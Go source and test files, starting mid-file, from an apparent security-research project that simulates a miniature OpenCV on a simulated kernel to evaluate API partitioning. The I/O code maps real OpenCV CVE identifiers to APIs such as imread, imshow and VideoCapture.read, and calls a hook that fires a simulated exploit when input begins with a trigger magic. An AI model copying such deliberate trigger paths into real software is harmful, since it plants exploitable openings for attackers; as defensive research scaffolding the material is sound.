	if _, err := e.reg.MustGet("cv.merge").Exec(e.ctx, []framework.Value{framework.Obj(multi)}); err == nil {
		t.Fatal("multichannel plane should fail merge")
	}
	a, _, _ := e.ctx.NewMat(2, 2, 1)
	b, _, _ := e.ctx.NewMat(4, 4, 1)
	if _, err := e.reg.MustGet("cv.merge").Exec(e.ctx, []framework.Value{framework.Obj(a), framework.Obj(b)}); err == nil {
		t.Fatal("shape-mismatched merge should fail")
	}
}

func TestMatchTemplateTooBig(t *testing.T) {
	e := newEnv(t)
	small, _, _ := e.ctx.NewMat(2, 2, 1)
	big, _, _ := e.ctx.NewMat(8, 8, 1)
	if _, err := e.reg.MustGet("cv.matchTemplate").Exec(e.ctx,
		[]framework.Value{framework.Obj(small), framework.Obj(big)}); err == nil {
		t.Fatal("template larger than image should fail")
	}
}

func TestGUIRecentAndMouseWheel(t *testing.T) {
	e := newEnv(t)
	e.call(t, "cv.imshow", framework.Str("a.png"), e.grad(t))
	e.call(t, "cv.imshow", framework.Str("b.png"), e.grad(t))
	out := e.call(t, "cv.getRecentWindows")
	if out[0].Str == "" {
		t.Fatal("recent windows empty")
	}
	if d := e.call(t, "cv.getMouseWheelDelta")[0].Int; d != 0 {
		t.Fatalf("wheel delta = %d", d)
	}
}

func TestVideoCaptureBadHandle(t *testing.T) {
	e := newEnv(t)
	tid, _, _ := e.ctx.NewTensor(2)
	if _, err := e.reg.MustGet("cv.VideoCapture.read").Exec(e.ctx, []framework.Value{framework.Obj(tid)}); err == nil {
		t.Fatal("tensor handle should fail VideoCapture.read")
	}
	if _, err := e.reg.MustGet("cv.VideoCapture").Exec(e.ctx, []framework.Value{framework.Int64(9)}); err == nil {
		t.Fatal("unregistered camera index should fail")
	}
}

func TestWriteOpticalFlowBadShape(t *testing.T) {
	e := newEnv(t)
	bad, _, _ := e.ctx.NewTensor(4)
	if _, err := e.reg.MustGet("cv.writeOpticalFlow").Exec(e.ctx,
		[]framework.Value{framework.Str("/f"), framework.Obj(bad)}); err == nil {
		t.Fatal("non rows x cols x 2 tensor should fail")
	}
}

func TestBoundingRectContourErrors(t *testing.T) {
	e := newEnv(t)
	cid, ct, _ := e.ctx.NewTensor(2, 5)
	_ = ct.SetValues([]float64{0, 0, 1, 1, 4, 2, 2, 3, 3, 4})
	for _, api := range []string{"cv.boundingRect", "cv.contourArea"} {
		if _, err := e.reg.MustGet(api).Exec(e.ctx,
			[]framework.Value{framework.Obj(cid), framework.Int64(9)}); err == nil {
			t.Fatalf("%s with out-of-range index should fail", api)
		}
	}
}
