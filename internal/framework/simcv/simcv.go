// Package simcv is a miniature OpenCV: ~90 image-processing APIs with real
// implementations over the simulated substrate. It provides the data
// loading, processing, visualizing, and storing APIs the paper's motivating
// example and evaluation applications use (Tables 2, 4, 6), with the CVE
// sites of Table 5 injected at the same APIs the paper names.
//
// Image file/frame format: "IMG1" magic, three big-endian uint32 (rows,
// cols, channels), then row-major payload bytes. Crafted exploit inputs
// instead begin with the framework trigger magic (framework.Trigger).
package simcv

import (
	"encoding/binary"
	"fmt"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/object"
)

// Name is the framework identifier used in API metadata.
const Name = "simcv"

// imgMagic prefixes encoded images.
var imgMagic = []byte("IMG1")

// EncodeImage serializes an image to the simcv file format.
func EncodeImage(rows, cols, channels int, data []byte) ([]byte, error) {
	if len(data) != rows*cols*channels {
		return nil, fmt.Errorf("simcv: encode %d bytes for shape %dx%dx%d", len(data), rows, cols, channels)
	}
	out := make([]byte, 0, 16+len(data))
	out = append(out, imgMagic...)
	out = binary.BigEndian.AppendUint32(out, uint32(rows))
	out = binary.BigEndian.AppendUint32(out, uint32(cols))
	out = binary.BigEndian.AppendUint32(out, uint32(channels))
	return append(out, data...), nil
}

// DecodeImage parses the simcv file format.
func DecodeImage(b []byte) (rows, cols, channels int, data []byte, err error) {
	if len(b) < 16 || string(b[:4]) != string(imgMagic) {
		return 0, 0, 0, nil, fmt.Errorf("simcv: not an image (%d bytes)", len(b))
	}
	rows = int(binary.BigEndian.Uint32(b[4:8]))
	cols = int(binary.BigEndian.Uint32(b[8:12]))
	channels = int(binary.BigEndian.Uint32(b[12:16]))
	data = b[16:]
	if rows <= 0 || cols <= 0 || channels <= 0 || len(data) != rows*cols*channels {
		return 0, 0, 0, nil, fmt.Errorf("simcv: corrupt image header %dx%dx%d with %d payload bytes", rows, cols, channels, len(data))
	}
	return rows, cols, channels, data, nil
}

// EncodeMat serializes a mat object to the image format.
func EncodeMat(m *object.Mat) ([]byte, error) {
	data, err := object.PayloadBytes(m)
	if err != nil {
		return nil, err
	}
	return EncodeImage(m.Rows(), m.Cols(), m.Channels(), data)
}

// matAndBytes resolves an argument to its mat and full payload.
func matAndBytes(ctx *framework.Ctx, v framework.Value) (*object.Mat, []byte, error) {
	m, err := ctx.Mat(v)
	if err != nil {
		return nil, nil, err
	}
	data, err := object.PayloadBytes(m)
	if err != nil {
		return nil, nil, err
	}
	return m, data, nil
}

// outMat allocates a result mat filled with data and returns its Value.
func outMat(ctx *framework.Ctx, rows, cols, ch int, data []byte) (framework.Value, error) {
	id, _, err := ctx.NewMatFromBytes(rows, cols, ch, data)
	if err != nil {
		return framework.Nil(), err
	}
	return framework.Obj(id), nil
}

// needArgs validates the argument count.
func needArgs(api string, args []framework.Value, n int) error {
	if len(args) < n {
		return fmt.Errorf("simcv: %s needs %d args, got %d", api, n, len(args))
	}
	return nil
}

// clampByte clamps an int to [0, 255].
func clampByte(v int) byte {
	if v < 0 {
		return 0
	}
	if v > 255 {
		return 255
	}
	return byte(v)
}

// Registry builds the full simcv API registry.
func Registry() *framework.Registry {
	r := framework.NewRegistry()
	registerIO(r)
	registerPoint(r)
	registerFilter(r)
	registerGeometry(r)
	registerAnalysis(r)
	registerDrawing(r)
	registerDetect(r)
	return r
}
