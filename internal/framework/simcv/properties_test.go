package simcv_test

import (
	"testing"
	"testing/quick"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/object"
)

// randomMat materializes arbitrary bytes as an 8x8 mat.
func (e *env) randomMat(t *testing.T, seedBytes []byte) framework.Value {
	t.Helper()
	data := make([]byte, 64)
	copy(data, seedBytes)
	id, _, err := e.ctx.NewMatFromBytes(8, 8, 1, data)
	if err != nil {
		t.Fatal(err)
	}
	return framework.Obj(id)
}

// bytesOf fetches a result mat's payload.
func (e *env) bytesOf(t *testing.T, v framework.Value) []byte {
	t.Helper()
	b, err := object.PayloadBytes(e.matOf(t, v))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestPropertyFlipInvolution(t *testing.T) {
	e := newEnv(t)
	f := func(seed []byte) bool {
		in := e.randomMat(t, seed)
		once := e.call(t, "cv.flip", in, framework.Int64(1))[0]
		twice := e.call(t, "cv.flip", once, framework.Int64(1))[0]
		return string(e.bytesOf(t, twice)) == string(e.bytesOf(t, in))
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 30}); err != nil {
		t.Fatal(err)
	}
}

func TestPropertyTransposeInvolution(t *testing.T) {
	e := newEnv(t)
	f := func(seed []byte) bool {
		in := e.randomMat(t, seed)
		once := e.call(t, "cv.transpose", in)[0]
		twice := e.call(t, "cv.transpose", once)[0]
		return string(e.bytesOf(t, twice)) == string(e.bytesOf(t, in))
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 30}); err != nil {
		t.Fatal(err)
	}
}

func TestPropertyThresholdIdempotent(t *testing.T) {
	e := newEnv(t)
	f := func(seed []byte, th uint8) bool {
		in := e.randomMat(t, seed)
		once := e.call(t, "cv.threshold", in, framework.Int64(int64(th)))[0]
		twice := e.call(t, "cv.threshold", once, framework.Int64(int64(th)))[0]
		return string(e.bytesOf(t, twice)) == string(e.bytesOf(t, once))
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 30}); err != nil {
		t.Fatal(err)
	}
}

func TestPropertyErodeDilateOrdering(t *testing.T) {
	// Pointwise: erode(x) <= x <= dilate(x).
	e := newEnv(t)
	f := func(seed []byte) bool {
		in := e.randomMat(t, seed)
		orig := e.bytesOf(t, in)
		er := e.bytesOf(t, e.call(t, "cv.erode", in)[0])
		di := e.bytesOf(t, e.call(t, "cv.dilate", in)[0])
		for i := range orig {
			if er[i] > orig[i] || di[i] < orig[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 30}); err != nil {
		t.Fatal(err)
	}
}

func TestPropertyBlurPreservesRange(t *testing.T) {
	// A mean filter never exceeds the input's min/max.
	e := newEnv(t)
	f := func(seed []byte) bool {
		in := e.randomMat(t, seed)
		orig := e.bytesOf(t, in)
		lo, hi := orig[0], orig[0]
		for _, v := range orig {
			if v < lo {
				lo = v
			}
			if v > hi {
				hi = v
			}
		}
		out := e.bytesOf(t, e.call(t, "cv.blur", in)[0])
		for _, v := range out {
			if v < lo || v > hi {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 30}); err != nil {
		t.Fatal(err)
	}
}

func TestPropertyNormalizeFullRange(t *testing.T) {
	// After min-max normalization a non-constant image spans [0, 255].
	e := newEnv(t)
	f := func(seed []byte) bool {
		if len(seed) < 2 {
			return true
		}
		in := e.randomMat(t, seed)
		orig := e.bytesOf(t, in)
		constant := true
		for _, v := range orig {
			if v != orig[0] {
				constant = false
				break
			}
		}
		if constant {
			return true
		}
		out := e.bytesOf(t, e.call(t, "cv.normalize", in)[0])
		var sawLo, sawHi bool
		for _, v := range out {
			if v == 0 {
				sawLo = true
			}
			if v >= 250 { // integer division rounds the top of the range
				sawHi = true
			}
		}
		return sawLo && sawHi
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 30}); err != nil {
		t.Fatal(err)
	}
}

func TestPropertyCountNonZeroBounds(t *testing.T) {
	e := newEnv(t)
	f := func(seed []byte) bool {
		in := e.randomMat(t, seed)
		n := e.call(t, "cv.countNonZero", in)[0].Int
		return n >= 0 && n <= 64
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 30}); err != nil {
		t.Fatal(err)
	}
}

func TestPropertyHistogramMassConserved(t *testing.T) {
	// The histogram's bin counts sum to the pixel count.
	e := newEnv(t)
	f := func(seed []byte) bool {
		in := e.randomMat(t, seed)
		h := e.call(t, "cv.calcHist", in)[0]
		ht, err := e.ctx.Tensor(h)
		if err != nil {
			return false
		}
		vals, err := ht.Values()
		if err != nil {
			return false
		}
		sum := 0.0
		for _, v := range vals {
			sum += v
		}
		return sum == 64
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 30}); err != nil {
		t.Fatal(err)
	}
}

func TestPropertyAddCommutes(t *testing.T) {
	e := newEnv(t)
	f := func(s1, s2 []byte) bool {
		a := e.randomMat(t, s1)
		b := e.randomMat(t, s2)
		ab := e.bytesOf(t, e.call(t, "cv.add", a, b)[0])
		ba := e.bytesOf(t, e.call(t, "cv.add", b, a)[0])
		return string(ab) == string(ba)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 30}); err != nil {
		t.Fatal(err)
	}
}

func TestPropertyAbsdiffSymmetricZeroSelf(t *testing.T) {
	e := newEnv(t)
	f := func(s1, s2 []byte) bool {
		a := e.randomMat(t, s1)
		b := e.randomMat(t, s2)
		ab := e.bytesOf(t, e.call(t, "cv.absdiff", a, b)[0])
		ba := e.bytesOf(t, e.call(t, "cv.absdiff", b, a)[0])
		if string(ab) != string(ba) {
			return false
		}
		aa := e.bytesOf(t, e.call(t, "cv.absdiff", a, a)[0])
		for _, v := range aa {
			if v != 0 {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 30}); err != nil {
		t.Fatal(err)
	}
}

func TestPropertyResizeRoundTripShape(t *testing.T) {
	e := newEnv(t)
	f := func(seed []byte) bool {
		in := e.randomMat(t, seed)
		up := e.call(t, "cv.resize", in, framework.Int64(16), framework.Int64(16))[0]
		down := e.call(t, "cv.resize", up, framework.Int64(8), framework.Int64(8))[0]
		m := e.matOf(t, down)
		return m.Rows() == 8 && m.Cols() == 8
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 20}); err != nil {
		t.Fatal(err)
	}
}

func TestPropertyMinMaxConsistent(t *testing.T) {
	e := newEnv(t)
	f := func(seed []byte) bool {
		in := e.randomMat(t, seed)
		mm := e.call(t, "cv.minMaxLoc", in)
		lo, hi := mm[0].Int, mm[1].Int
		if lo > hi {
			return false
		}
		data := e.bytesOf(t, in)
		for _, v := range data {
			if int64(v) < lo || int64(v) > hi {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 30}); err != nil {
		t.Fatal(err)
	}
}
