package simcv

import (
	"encoding/binary"
	"fmt"
	"math"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/kernel"
)

// Simulated CVE site assignment. Each id is placed at the API class the
// paper's Table 5 / case studies attribute it to.
const (
	CVEImreadWrite  = "CVE-2017-12597" // unauthorized memory write (imread, §3)
	CVEImreadWrite2 = "CVE-2017-12606" // unauthorized memory write (imread; drone config corruption, §5.4.1)
	CVEImreadRCE    = "CVE-2017-17760" // remote code execution (imread)
	CVEImreadDoS    = "CVE-2017-14136" // DoS (imread; drone crash, §5.4.1)
	CVEImreadLeak   = "CVE-2020-10378" // unauthorized memory read (image load; MComix3, §5.4.2)
	CVECvLoadWrite  = "CVE-2017-12604" // unauthorized memory write (cvLoad)
	CVECapReadWrite = "CVE-2017-12605" // unauthorized memory write (VideoCapture.read)
	CVECapReadDoS   = "CVE-2018-5269"  // DoS (VideoCapture.read)
	CVEDetectRCE    = "CVE-2019-5063"  // RCE (detectMultiScale)
	CVEWarpRCE      = "CVE-2019-5064"  // RCE (warpPerspective)
	CVEDetectDoS    = "CVE-2019-14491" // DoS (detectMultiScale; drone, §5.4.1)
	CVEEqualizeDoS  = "CVE-2019-14492" // DoS (equalizeHist)
	CVEContoursDoS  = "CVE-2019-14493" // DoS (findContours)
	CVEImshowDoS    = "CVE-2019-15939" // DoS (imshow; motivating example B)
)

// floMagic prefixes encoded optical-flow files.
var floMagic = []byte("FLO1")

// encodeFlow serializes an optical-flow field (rows×cols×2 float64).
func encodeFlow(rows, cols int, vals []float64) ([]byte, error) {
	if len(vals) != rows*cols*2 {
		return nil, fmt.Errorf("simcv: flow %d values for %dx%d", len(vals), rows, cols)
	}
	out := make([]byte, 0, 12+8*len(vals))
	out = append(out, floMagic...)
	out = binary.BigEndian.AppendUint32(out, uint32(rows))
	out = binary.BigEndian.AppendUint32(out, uint32(cols))
	for _, v := range vals {
		out = binary.BigEndian.AppendUint64(out, math.Float64bits(v))
	}
	return out, nil
}

// decodeFlow parses an optical-flow file.
func decodeFlow(b []byte) (rows, cols int, vals []float64, err error) {
	if len(b) < 12 || string(b[:4]) != string(floMagic) {
		return 0, 0, nil, fmt.Errorf("simcv: not a flow file")
	}
	rows = int(binary.BigEndian.Uint32(b[4:8]))
	cols = int(binary.BigEndian.Uint32(b[8:12]))
	n := rows * cols * 2
	if rows <= 0 || cols <= 0 || len(b) != 12+8*n {
		return 0, 0, nil, fmt.Errorf("simcv: corrupt flow file")
	}
	vals = make([]float64, n)
	for i := range vals {
		vals[i] = math.Float64frombits(binary.BigEndian.Uint64(b[12+8*i:]))
	}
	return rows, cols, vals, nil
}

// registerIO installs the loading, visualizing, and storing APIs.
func registerIO(r *framework.Registry) {
	// ---- Data loading ------------------------------------------------------

	var imreadAPI *framework.API
	imreadAPI = &framework.API{
		Name: "cv.imread", Framework: Name, TrueType: framework.TypeLoading,
		StaticOps: []framework.Op{framework.WriteOp(framework.StorageMem, framework.StorageFile)},
		Syscalls:  []kernel.Sysno{kernel.SysOpenat, kernel.SysFstat, kernel.SysRead, kernel.SysLseek, kernel.SysClose, kernel.SysBrk},
		CVEs:      []string{CVEImreadWrite, CVEImreadWrite2, CVEImreadRCE, CVEImreadDoS, CVEImreadLeak},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("imread", args, 1); err != nil {
				return nil, err
			}
			raw, err := ctx.FileRead(args[0].Str)
			if err != nil {
				return nil, err
			}
			if fired, err := ctx.MaybeExploit(imreadAPI, raw); fired {
				return nil, err
			}
			rows, cols, ch, data, err := DecodeImage(raw)
			if err != nil {
				return nil, err
			}
			ctx.Charge(len(data), 1)
			v, err := outMat(ctx, rows, cols, ch, data)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	}
	r.Register(imreadAPI)

	var cvLoadAPI *framework.API
	cvLoadAPI = &framework.API{
		Name: "cv.cvLoad", Framework: Name, TrueType: framework.TypeLoading,
		StaticOps: []framework.Op{framework.WriteOp(framework.StorageMem, framework.StorageFile)},
		Syscalls:  []kernel.Sysno{kernel.SysOpenat, kernel.SysFstat, kernel.SysRead, kernel.SysClose},
		CVEs:      []string{CVECvLoadWrite},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("cvLoad", args, 1); err != nil {
				return nil, err
			}
			raw, err := ctx.FileRead(args[0].Str)
			if err != nil {
				return nil, err
			}
			if fired, err := ctx.MaybeExploit(cvLoadAPI, raw); fired {
				return nil, err
			}
			id, _, err := ctx.NewBlob(raw)
			if err != nil {
				return nil, err
			}
			return []framework.Value{framework.Obj(id)}, nil
		},
	}
	r.Register(cvLoadAPI)

	r.Register(&framework.API{
		Name: "cv.VideoCapture", Framework: Name, TrueType: framework.TypeLoading,
		Stateful:  true,
		StaticOps: []framework.Op{framework.WriteOp(framework.StorageMem, framework.StorageDev)},
		Syscalls:  []kernel.Sysno{kernel.SysOpenat, kernel.SysClose, kernel.SysIoctl, kernel.SysMmap},
		FDLabels:  map[kernel.Sysno][]string{kernel.SysIoctl: {"/dev/camera0"}},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("VideoCapture", args, 1); err != nil {
				return nil, err
			}
			label := fmt.Sprintf("/dev/camera%d", args[0].Int)
			if err := ctx.K.CameraOpen(ctx.P, label); err != nil {
				return nil, err
			}
			id, _, err := ctx.NewBlob([]byte(label))
			if err != nil {
				return nil, err
			}
			return []framework.Value{framework.Obj(id)}, nil
		},
	})

	var capReadAPI *framework.API
	capReadAPI = &framework.API{
		Name: "cv.VideoCapture.read", Framework: Name, TrueType: framework.TypeLoading,
		Stateful:  true,
		StaticOps: []framework.Op{framework.WriteOp(framework.StorageMem, framework.StorageDev)},
		Syscalls:  []kernel.Sysno{kernel.SysBrk, kernel.SysIoctl, kernel.SysSelect, kernel.SysRead},
		FDLabels: map[kernel.Sysno][]string{
			kernel.SysIoctl:  {"/dev/camera0"},
			kernel.SysSelect: {"/dev/camera0"},
		},
		CVEs: []string{CVECapReadWrite, CVECapReadDoS},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("VideoCapture.read", args, 1); err != nil {
				return nil, err
			}
			h, err := ctx.Blob(args[0])
			if err != nil {
				return nil, err
			}
			label, err := h.Bytes()
			if err != nil {
				return nil, err
			}
			frame, ok, err := ctx.CameraRead(string(label))
			if err != nil {
				return nil, err
			}
			if !ok {
				return []framework.Value{framework.Bool(false), framework.Nil()}, nil
			}
			if fired, err := ctx.MaybeExploit(capReadAPI, frame); fired {
				return nil, err
			}
			rows, cols, ch, data, err := DecodeImage(frame)
			if err != nil {
				return nil, err
			}
			ctx.Charge(len(data), 1)
			v, err := outMat(ctx, rows, cols, ch, data)
			if err != nil {
				return nil, err
			}
			return []framework.Value{framework.Bool(true), v}, nil
		},
	}
	r.Register(capReadAPI)

	r.Register(&framework.API{
		Name: "cv.readOpticalFlow", Framework: Name, TrueType: framework.TypeLoading,
		StaticOps: []framework.Op{framework.WriteOp(framework.StorageMem, framework.StorageFile)},
		Syscalls:  []kernel.Sysno{kernel.SysOpenat, kernel.SysFstat, kernel.SysRead, kernel.SysClose},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("readOpticalFlow", args, 1); err != nil {
				return nil, err
			}
			raw, err := ctx.FileRead(args[0].Str)
			if err != nil {
				return nil, err
			}
			rows, cols, vals, err := decodeFlow(raw)
			if err != nil {
				return nil, err
			}
			id, t, err := ctx.NewTensor(rows, cols, 2)
			if err != nil {
				return nil, err
			}
			for i, v := range vals {
				if err := t.SetFlat(i, v); err != nil {
					return nil, err
				}
			}
			ctx.Charge(len(raw), 1)
			return []framework.Value{framework.Obj(id)}, nil
		},
	})

	// ---- Visualizing -------------------------------------------------------

	var imshowAPI *framework.API
	imshowAPI = &framework.API{
		Name: "cv.imshow", Framework: Name, TrueType: framework.TypeVisualizing,
		StaticOps:    []framework.Op{framework.WriteOp(framework.StorageGUI, framework.StorageMem)},
		Syscalls:     []kernel.Sysno{kernel.SysSelect, kernel.SysSendto, kernel.SysFutex, kernel.SysEventfd2},
		FDLabels:     map[kernel.Sysno][]string{kernel.SysSelect: {kernel.GUIHost}},
		InitSyscalls: []kernel.Sysno{kernel.SysSocket, kernel.SysConnect},
		CVEs:         []string{CVEImshowDoS},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("imshow", args, 2); err != nil {
				return nil, err
			}
			m, data, err := matAndBytes(ctx, args[1])
			if err != nil {
				return nil, err
			}
			if fired, err := ctx.MaybeExploit(imshowAPI, data); fired {
				return nil, err
			}
			if err := ctx.GUIShow(args[0].Str, m.Size()); err != nil {
				return nil, err
			}
			return nil, nil
		},
	}
	r.Register(imshowAPI)

	guiOp := func(name, op string) *framework.API {
		return &framework.API{
			Name: name, Framework: Name, TrueType: framework.TypeVisualizing,
			StaticOps: []framework.Op{framework.ReadOp(framework.StorageGUI)},
			Syscalls:  []kernel.Sysno{kernel.SysSelect, kernel.SysSendto},
			FDLabels:  map[kernel.Sysno][]string{kernel.SysSelect: {kernel.GUIHost}},
			Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
				win := ""
				if len(args) > 0 {
					win = args[0].Str
				}
				if err := ctx.GUIOp(op, win); err != nil {
					return nil, err
				}
				return nil, nil
			},
		}
	}
	r.Register(guiOp("cv.namedWindow", "create"))
	r.Register(guiOp("cv.moveWindow", "move"))
	r.Register(guiOp("cv.resizeWindow", "resize"))
	r.Register(guiOp("cv.setWindowTitle", "title"))
	r.Register(guiOp("cv.destroyAllWindows", "destroyAll"))

	key := func(name string) *framework.API {
		return &framework.API{
			Name: name, Framework: Name, TrueType: framework.TypeVisualizing,
			StaticOps: []framework.Op{framework.WriteOp(framework.StorageMem, framework.StorageGUI)},
			Syscalls:  []kernel.Sysno{kernel.SysSelect, kernel.SysRecvfrom},
			FDLabels:  map[kernel.Sysno][]string{kernel.SysSelect: {kernel.GUIHost}},
			Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
				if err := ctx.K.Syscall(ctx.P, kernel.SysSelect, kernel.GUIHost); err != nil {
					return nil, err
				}
				if err := ctx.K.Syscall(ctx.P, kernel.SysRecvfrom, ""); err != nil {
					return nil, err
				}
				ctx.EmitMemOp()
				return []framework.Value{framework.Int64(int64(ctx.K.GUI.PopKey()))}, nil
			},
		}
	}
	r.Register(key("cv.pollKey"))
	r.Register(key("cv.waitKey"))

	r.Register(&framework.API{
		Name: "cv.getMouseWheelDelta", Framework: Name, TrueType: framework.TypeVisualizing,
		StaticOps: []framework.Op{framework.WriteOp(framework.StorageMem, framework.StorageGUI)},
		Syscalls:  []kernel.Sysno{kernel.SysSelect, kernel.SysRecvfrom},
		FDLabels:  map[kernel.Sysno][]string{kernel.SysSelect: {kernel.GUIHost}},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := ctx.K.Syscall(ctx.P, kernel.SysSelect, kernel.GUIHost); err != nil {
				return nil, err
			}
			if err := ctx.K.Syscall(ctx.P, kernel.SysRecvfrom, ""); err != nil {
				return nil, err
			}
			ctx.EmitMemOp()
			return []framework.Value{framework.Int64(0)}, nil
		},
	})

	// getRecentWindows models GTK RecentManager-style state read by viewer
	// apps (MComix3 case study): GUI-owned state copied into memory.
	r.Register(&framework.API{
		Name: "cv.getRecentWindows", Framework: Name, TrueType: framework.TypeVisualizing,
		StaticOps: []framework.Op{framework.WriteOp(framework.StorageMem, framework.StorageGUI)},
		Syscalls:  []kernel.Sysno{kernel.SysSelect, kernel.SysRecvfrom},
		FDLabels:  map[kernel.Sysno][]string{kernel.SysSelect: {kernel.GUIHost}},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			names, err := ctx.GUIReadState()
			if err != nil {
				return nil, err
			}
			out := ""
			for i, n := range names {
				if i > 0 {
					out += "\n"
				}
				out += n
			}
			return []framework.Value{framework.Str(out)}, nil
		},
	})

	// ---- Storing -----------------------------------------------------------

	r.Register(&framework.API{
		Name: "cv.imwrite", Framework: Name, TrueType: framework.TypeStoring,
		StaticOps: []framework.Op{framework.WriteOp(framework.StorageFile, framework.StorageMem)},
		Syscalls:  []kernel.Sysno{kernel.SysOpenat, kernel.SysWrite, kernel.SysClose, kernel.SysUmask},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("imwrite", args, 2); err != nil {
				return nil, err
			}
			m, err := ctx.Mat(args[1])
			if err != nil {
				return nil, err
			}
			enc, err := EncodeMat(m)
			if err != nil {
				return nil, err
			}
			ctx.Charge(len(enc), 1)
			if err := ctx.FileWrite(args[0].Str, enc); err != nil {
				return nil, err
			}
			return []framework.Value{framework.Bool(true)}, nil
		},
	})

	r.Register(&framework.API{
		Name: "cv.writeOpticalFlow", Framework: Name, TrueType: framework.TypeStoring,
		StaticOps: []framework.Op{framework.WriteOp(framework.StorageFile, framework.StorageMem)},
		Syscalls:  []kernel.Sysno{kernel.SysOpenat, kernel.SysWrite, kernel.SysClose},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("writeOpticalFlow", args, 2); err != nil {
				return nil, err
			}
			t, err := ctx.Tensor(args[1])
			if err != nil {
				return nil, err
			}
			sh := t.Shape()
			if len(sh) != 3 || sh[2] != 2 {
				return nil, fmt.Errorf("simcv: flow tensor must be rows x cols x 2, got %v", sh)
			}
			vals := make([]float64, t.Len())
			for i := range vals {
				v, err := t.AtFlat(i)
				if err != nil {
					return nil, err
				}
				vals[i] = v
			}
			enc, err := encodeFlow(sh[0], sh[1], vals)
			if err != nil {
				return nil, err
			}
			if err := ctx.FileWrite(args[0].Str, enc); err != nil {
				return nil, err
			}
			return []framework.Value{framework.Bool(true)}, nil
		},
	})

	r.Register(&framework.API{
		Name: "cv.VideoWriter", Framework: Name, TrueType: framework.TypeStoring,
		Stateful:  true,
		StaticOps: []framework.Op{framework.WriteOp(framework.StorageFile, framework.StorageMem)},
		Syscalls:  []kernel.Sysno{kernel.SysOpenat, kernel.SysClose, kernel.SysMkdir},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("VideoWriter", args, 1); err != nil {
				return nil, err
			}
			if err := ctx.K.Syscall(ctx.P, kernel.SysOpenat, ""); err != nil {
				return nil, err
			}
			id, _, err := ctx.NewBlob([]byte(args[0].Str))
			if err != nil {
				return nil, err
			}
			return []framework.Value{framework.Obj(id)}, nil
		},
	})

	r.Register(&framework.API{
		Name: "cv.VideoWriter.write", Framework: Name, TrueType: framework.TypeStoring,
		Stateful:  true,
		StaticOps: []framework.Op{framework.WriteOp(framework.StorageFile, framework.StorageMem)},
		Syscalls:  []kernel.Sysno{kernel.SysWrite, kernel.SysLseek},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("VideoWriter.write", args, 2); err != nil {
				return nil, err
			}
			h, err := ctx.Blob(args[0])
			if err != nil {
				return nil, err
			}
			path, err := h.Bytes()
			if err != nil {
				return nil, err
			}
			m, err := ctx.Mat(args[1])
			if err != nil {
				return nil, err
			}
			enc, err := EncodeMat(m)
			if err != nil {
				return nil, err
			}
			ctx.Charge(len(enc), 1)
			if err := ctx.FileAppend(string(path), enc); err != nil {
				return nil, err
			}
			return nil, nil
		},
	})
}
