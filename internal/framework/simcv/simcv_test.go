package simcv_test

import (
	"errors"
	"strings"
	"testing"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/simcv"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/object"
)

// env bundles a kernel, process, context, and the simcv registry.
type env struct {
	k   *kernel.Kernel
	ctx *framework.Ctx
	reg *framework.Registry
}

func newEnv(t *testing.T) *env {
	t.Helper()
	k := kernel.New()
	p := k.Spawn("test")
	return &env{k: k, ctx: framework.NewCtx(k, p), reg: simcv.Registry()}
}

// call runs an API by name.
func (e *env) call(t *testing.T, name string, args ...framework.Value) []framework.Value {
	t.Helper()
	out, err := e.reg.MustGet(name).Exec(e.ctx, args)
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return out
}

// grad builds an 8x8 single-channel gradient image value.
func (e *env) grad(t *testing.T) framework.Value {
	t.Helper()
	data := make([]byte, 64)
	for i := range data {
		data[i] = byte(i * 4)
	}
	id, _, err := e.ctx.NewMatFromBytes(8, 8, 1, data)
	if err != nil {
		t.Fatal(err)
	}
	return framework.Obj(id)
}

// matOf resolves a returned value to its mat.
func (e *env) matOf(t *testing.T, v framework.Value) *object.Mat {
	t.Helper()
	m, err := e.ctx.Mat(v)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestRegistryComposition(t *testing.T) {
	reg := simcv.Registry()
	if reg.Len() < 85 {
		t.Fatalf("simcv has %d APIs, want >= 85 (Table 2 scale)", reg.Len())
	}
	counts := map[framework.APIType]int{}
